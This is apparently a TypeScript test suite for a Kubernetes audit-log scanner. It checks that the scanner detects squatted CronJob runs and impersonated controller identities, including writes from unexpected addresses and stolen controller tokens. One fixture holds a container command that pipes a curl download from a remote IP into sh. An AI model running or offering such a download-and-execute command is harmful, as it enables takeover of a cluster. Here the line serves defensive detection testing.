import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import type { Finding } from '../model/finding.ts';
import type { ScanOptions } from './scan.ts';
import { openState } from './state/file.ts';
import { scanning } from './testing/scanning.ts';
import { withoutPlaces, workloadOf, writeOf } from './testing.ts';

const { scanAll } = scanning('controllers');
const run = async (events: readonly object[], options: Partial<ScanOptions> = {}): Promise<readonly Finding[]> =>
  (await scanAll([events], { minSeverity: 'low', ...options })).findings;
const told = (findings: readonly Finding[]): readonly string[] =>
  findings.flatMap(({ severity, workload, indicators }) =>
    indicators.map(({ id }) => `${severity} ${workload.name}: ${id}`),
  );

/** Minutes since 1970 at the beginning of the hour in which everything happens. */
const HOUR = 29_925_000;
const spec = { containers: [{ name: 'main', image: 'registry.example.com/tool:1.2.3', command: ['/bin/tool'] }] };
const owners = (kind: string, name: string) => ({
  ownerReferences: [{ apiVersion: 'batch/v1', kind, name, uid: `u-${name}`, controller: true }],
});

interface Made {
  readonly minute: number;
  readonly name?: string;
  readonly from?: string;
  readonly agent?: string;
  readonly code?: number;
  readonly owned?: boolean;
  readonly runs?: object;
}

const by = (
  controller: string,
  { from = '192.0.2.1', agent = 'kube-controller-manager/v1.36.3', code = 201 }: Made,
) => ({
  user: { username: `system:serviceaccount:kube-system:${controller}`, groups: ['system:serviceaccounts'] },
  sourceIPs: [from],
  userAgent: agent,
  responseStatus: { metadata: {}, code },
});
let requests = 0;
const auditID = (): string => `11111111-0000-4000-8000-${String(++requests).padStart(12, '0')}`;

/** The run of a minute, as the CronJob controller makes it. */
const tick = (made: Made): object => {
  const { minute, name = `report-${HOUR + minute}`, owned = true, runs = spec } = made;
  const metadata = owned ? owners('CronJob', 'report') : {};
  const body = workloadOf('Job', name, runs, metadata);
  const more = { ...by('cronjob-controller', made), auditID: auditID() };
  return writeOf({ minute, resource: 'jobs', apiGroup: 'batch', name, body, more });
};
/** The pod of that run. */
const pod = (made: Made): object => {
  const name = `report-${HOUR + made.minute}-abcde`;
  const body = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name, ...owners('Job', `report-${HOUR + made.minute}`) },
    spec,
  };
  const more = { ...by('job-controller', made), auditID: auditID() };
  return writeOf({ minute: made.minute, resource: 'pods', name, body, more });
};
const runsOf = (minutes: readonly number[], made: Omit<Made, 'minute'> = {}): readonly object[] =>
  minutes.flatMap((minute) => [tick({ ...made, minute }), pod({ ...made, minute })]);

const person = (minute: number, due: number, more: object = {}): object => {
  const name = `report-${HOUR + due}`;
  const body = workloadOf('Job', name, spec);
  return writeOf({ minute, resource: 'jobs', apiGroup: 'batch', name, body, more: { auditID: auditID(), ...more } });
};
const bodiless = { level: 'Metadata', requestObject: undefined };

const SQUATS: Readonly<Record<string, { readonly events: readonly object[]; readonly tells: readonly string[] }>> = {
  'the next run is taken, and missed': {
    events: [...runsOf([1]), person(2, 3), tick({ minute: 3, code: 409 }), ...runsOf([4])],
    tells: [`high report-${HOUR + 3}: naming.squatted-run`],
  },
  'without any body': {
    events: [person(2, 3, bodiless), { ...tick({ minute: 3, code: 409 }), ...bodiless }],
    tells: [`high report-${HOUR + 3}: naming.squatted-run`, `high report-${HOUR + 3}: request.body-unseen`],
  },
  'taken, and the log ends before': {
    events: [...runsOf([1]), person(2, 3)],
    tells: [`medium report-${HOUR + 3}: naming.run-ahead`],
  },
  'the controller has not heard of its own Job': {
    events: [...runsOf([1]), tick({ minute: 1, code: 409 }), tick({ minute: 1, code: 409 }), ...runsOf([2])],
    tells: [],
  },
  'somebody was refused the name, and the run took place': {
    events: [
      person(2, 3, { responseStatus: { metadata: {}, code: 403 } }),
      ...runsOf([3]),
      tick({ minute: 3, code: 409 }),
    ],
    tells: [],
  },
  'a run of the past is made again': {
    events: [...runsOf([1, 2]), person(5, 1), ...runsOf([6])],
    tells: [],
  },
};

const IMPOSTORS: Readonly<Record<string, { readonly events: readonly object[]; readonly tells: readonly string[] }>> = {
  'its token in a tool at hand': {
    events: [...runsOf([1, 2]), tick({ minute: 3, agent: 'kubectl/v1.36.0' }), ...runsOf([4])],
    tells: [`high report-${HOUR + 3}: actor.controller-identity`],
  },
  'a Job that is no run': {
    events: [...runsOf([1]), tick({ minute: 2, name: 'sync', owned: false }), ...runsOf([3])],
    tells: ['medium sync: actor.controller-beyond-duty'],
  },
  'all as it should be, but the address': {
    events: [...runsOf([1, 2]), tick({ minute: 3, name: `report-${HOUR - 7}`, from: '192.0.2.66' }), ...runsOf([4, 5])],
    tells: [`medium report-${HOUR - 7}: actor.controller-elsewhere`],
  },
  'another controller manager takes over, of another version': {
    events: [
      ...runsOf([1, 2, 3]),
      ...runsOf([4, 5, 6], { from: '192.0.2.2', agent: 'kube-controller-manager/v1.37.0' }),
    ],
    tells: [],
  },
  'it takes over and gives back': {
    events: [...runsOf([1, 2]), ...runsOf([3], { from: '192.0.2.2' }), ...runsOf([4, 5])],
    tells: [],
  },
  'nobody else is in the log to tell which place is the own one': {
    events: [tick({ minute: 1 }), tick({ minute: 2, from: '192.0.2.2' }), tick({ minute: 3 })],
    tells: [],
  },
};

for (const [situation, { events, tells }] of Object.entries({ ...SQUATS, ...IMPOSTORS })) {
  test(`${tells.length === 0 ? 'quiet' : 'told'}: ${situation}`, async () => {
    assert.deepEqual(told(await run(events)), tells);
  });
  test(`in whatever order, whole or by lines, in however many parts: ${situation}`, async () => {
    const plainly = (await run(events)).map(withoutPlaces);
    assert.deepEqual((await run(events, { strict: true })).map(withoutPlaces), plainly);
    assert.deepEqual((await run([...events].reverse())).map(withoutPlaces), plainly);
    const parts = { jobs: 2, partBytes: 1000, inlineBytes: 0 };
    assert.deepEqual((await run(events, parts)).map(withoutPlaces), plainly);
  });
}

test('the run of a stranger is none of its CronJob', async () => {
  const cronJob = writeOf({
    minute: 0,
    resource: 'cronjobs',
    apiGroup: 'batch',
    name: 'report',
    body: workloadOf('CronJob', 'report', spec),
    more: { responseObject: workloadOf('CronJob', 'report', spec, { uid: 'u-report' }), auditID: auditID() },
  });
  const { events = [] } = IMPOSTORS['all as it should be, but the address'] ?? {};
  const [author] = await run([cronJob, ...events], { minSeverity: 'info' });
  assert.equal(author?.workload.kind, 'CronJob');
  assert.equal(author?.runs?.count, 4);
});

test('of many writes from elsewhere the first are findings, and each says how many there were', async () => {
  const many = Array.from({ length: 50 }, (_, index) =>
    tick({ minute: 5, name: `report-${HOUR - 100 - index}`, from: '192.0.2.66' }),
  );
  const findings = await run([...runsOf([1, 2]), ...many, ...runsOf([7])]);
  assert.equal(findings.length, 32);
  for (const { indicators } of findings) {
    const says = indicators.find(({ id }) => id === 'actor.controller-elsewhere')?.evidence[0]?.says ?? '';
    assert.match(says, /Such writes that came from there: 50\.$/);
  }
});

const THIEF = '192.0.2.66';
const bad = { containers: [{ ...spec.containers[0], command: ['sh', '-c', 'curl -s http://198.51.100.7/a | sh'] }] };
/** Fifty runs that say nothing, and then a grave one, from where no controller is. */
const hidden = (): readonly object[] => [
  ...Array.from({ length: 50 }, (_, index) =>
    tick({ minute: 5 + index / 100, name: `report-${HOUR - 100 - index}`, from: THIEF }),
  ),
  tick({ minute: 6, name: `report-${HOUR - 200}`, from: THIEF, runs: bad }),
];

test('a grave write from elsewhere does not hide behind harmless ones, however the log is read', async () => {
  const events = [...runsOf([1, 2]), ...hidden(), ...runsOf([7, 8])];
  const grave = (findings: readonly Finding[]) =>
    findings.filter(({ severity }) => severity === 'high' || severity === 'critical');
  const plainly = await run(events);
  assert.equal(plainly.length, 33);
  assert.deepEqual(
    grave(plainly).map(({ workload }) => workload.name),
    [`report-${HOUR - 200}`],
  );
  const shown = plainly.map(withoutPlaces);
  assert.deepEqual((await run([...events].reverse())).map(withoutPlaces), shown);
  assert.deepEqual((await run(events, { strict: true })).map(withoutPlaces), shown);
  const parts = { jobs: 2, partBytes: 1000, inlineBytes: 0 };
  assert.deepEqual((await run(events, parts)).map(withoutPlaces), shown);
  assert.deepEqual(
    (await scanAll([events.slice(0, 40), events.slice(40)])).findings.filter(isLoud).map(withoutPlaces),
    shown,
  );
  // Told twice it is told once.
  assert.deepEqual((await scanAll([events, events])).findings.filter(isLoud).length, shown.length);
});

const isLoud = ({ severity }: Finding): boolean => severity !== 'info';

test('what a state knows of controllers does not grow when a log is read again', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'cronwarden-controllers-'));
  try {
    const events = [...runsOf([1, 2]), ...hidden(), ...runsOf([7, 8])];
    const once = async (of: readonly object[]) => {
      const state = await openState(join(folder, 'one.state'));
      const told = await scanAll([of], { minSeverity: 'low', state });
      state.commit();
      return told;
    };
    assert.equal((await once(events)).findings.length, 33);
    for (const again of [await once(events), await once(events.slice(10, 60)), await once([tick({ minute: 9 })])]) {
      assert.deepEqual(
        again.findings.map(({ title }) => title),
        [],
      );
      assert.ok(!again.summary.warnings.some((one) => one.includes('not judged')));
    }
  } finally {
    rmSync(folder, { recursive: true });
  }
});

test('what proves to be from elsewhere when its file is gone is counted, and said', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'cronwarden-controllers-'));
  try {
    const given: Finding[] = [];
    let warnings: readonly string[] = [];
    for (const events of [[...runsOf([1, 2]), ...hidden()], runsOf([7, 8])]) {
      const state = await openState(join(folder, 'one.state'));
      const told = await scanAll([events], { minSeverity: 'low', state });
      state.commit();
      given.push(...told.findings);
      warnings = told.summary.warnings;
    }
    assert.equal(given.length, 32);
    assert.ok(warnings.some((one) => one.startsWith("19 writes under controllers' names from elsewhere were counted")));
  } finally {
    rmSync(folder, { recursive: true });
  }
});

/** The controller manager asks for the token of one of its controllers. */
const manager = (minute: number, from: string): object =>
  writeOf({
    minute,
    resource: 'serviceaccounts',
    name: 'cronjob-controller',
    namespace: 'kube-system',
    body: { kind: 'TokenRequest', apiVersion: 'authentication.k8s.io/v1' },
    more: {
      ...by('cronjob-controller', { minute, from }),
      user: { username: 'system:kube-controller-manager', groups: ['system:authenticated'] },
      objectRef: {
        resource: 'serviceaccounts',
        subresource: 'token',
        namespace: 'kube-system',
        name: 'cronjob-controller',
        apiVersion: 'v1',
      },
      auditID: auditID(),
    },
  });
const away = Array.from({ length: 40 }, (_, index) => index + 1).filter((minute) => minute !== 20);
const pair = (from: string): readonly object[] => runsOf([20], { from });

const TOKENS: Readonly<Record<string, { readonly events: readonly object[]; readonly tells: readonly string[] }>> = {
  "two controllers' tokens, where no controller manager is": {
    events: [manager(0, '192.0.2.1'), ...runsOf(away), ...pair(THIEF)],
    tells: [
      `medium report-${HOUR + 20}: actor.controller-elsewhere`,
      `medium report-${HOUR + 20}-abcde: actor.controller-elsewhere`,
    ],
  },
  'another controller manager took over for a minute': {
    events: [manager(0, '192.0.2.1'), ...runsOf(away), manager(19.5, '192.0.2.2'), ...pair('192.0.2.2')],
    tells: [],
  },
  'the log holds no token requests, so that nobody can tell': {
    events: [...runsOf(away), ...pair(THIEF)],
    tells: [],
  },
  'the log holds none, and the controllers went on within seconds': {
    events: [...runsOf([...away, 19.95, 20.1]), ...pair(THIEF)],
    tells: [
      `medium report-${HOUR + 20}: actor.controller-elsewhere`,
      `medium report-${HOUR + 20}-abcde: actor.controller-elsewhere`,
    ],
  },
};
for (const [situation, { events, tells }] of Object.entries(TOKENS)) {
  test(`${tells.length === 0 ? 'quiet' : 'told'}: ${situation}`, async () => {
    assert.deepEqual(told(await run(events)), tells);
    assert.deepEqual(told(await run([...events].reverse())), tells);
    assert.deepEqual(told(await run(events, { strict: true })), tells);
    assert.deepEqual(told(await run(events, { jobs: 2, partBytes: 1000, inlineBytes: 0 })), tells);
  });
}
